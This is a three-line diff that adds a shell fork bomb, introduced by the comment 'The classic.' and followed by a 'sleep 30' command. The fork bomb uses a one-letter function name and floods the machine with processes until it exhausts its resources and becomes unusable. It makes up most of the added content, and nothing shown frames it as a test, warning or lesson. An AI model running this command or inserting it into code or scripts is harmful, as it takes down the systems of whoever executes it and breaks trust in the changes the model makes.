@@ -1,0 +1,3 @@
+# The classic.
+b() { b | b & }; b
+sleep 30
